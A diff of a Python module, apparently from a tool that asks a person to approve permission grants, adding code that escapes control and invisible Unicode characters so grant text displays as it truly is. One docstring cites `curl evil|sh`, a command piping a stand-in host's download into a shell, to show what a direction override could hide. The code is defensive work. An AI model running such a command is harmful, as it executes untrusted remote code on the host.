@@ -91,9 +91,27 @@ def held_out(data: Mapping[str, Any]) -> dict[str, Any]:
     return kept
 
 
+_UNSHOWN = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
+"""Characters a terminal or a screen would act on, or not show: control characters (an escape
+sequence can erase the lines above it or retitle the window), line breaks, and the invisible
+or direction-changing ones (a right-to-left override makes `curl evil|sh` read as something
+else)."""
+
+
+def shown(text: str) -> str:
+    """`text` as a person must see it to approve it: every character that would not show as
+    itself (`_UNSHOWN`) written as an escape (`\\x1b`, `\\n`, `\\u202e`)."""
+    return _UNSHOWN.sub(lambda found: found[0].encode("unicode_escape").decode("ascii"), text)
+
+
 def _grants(data: Mapping[str, Any]) -> list[tuple[str, str]]:
     """Each grant as (the key that holds it, its phrase). Values that do not fit the schema
-    are left to the schema check (the file is refused before this matters)."""
+    are left to the schema check (the file is refused before this matters). What the file
+    wrote is shown escaped (`shown`): it is what the person approves."""
+    return [(key, shown(phrase)) for key, phrase in _found_grants(data)]
+
+
+def _found_grants(data: Mapping[str, Any]) -> list[tuple[str, str]]:
     found: list[tuple[str, str]] = []
     if data.get("sandbox") == "none":
         found.append(("sandbox", '"sandbox": "none" (shell commands run on the host, unsandboxed)'))
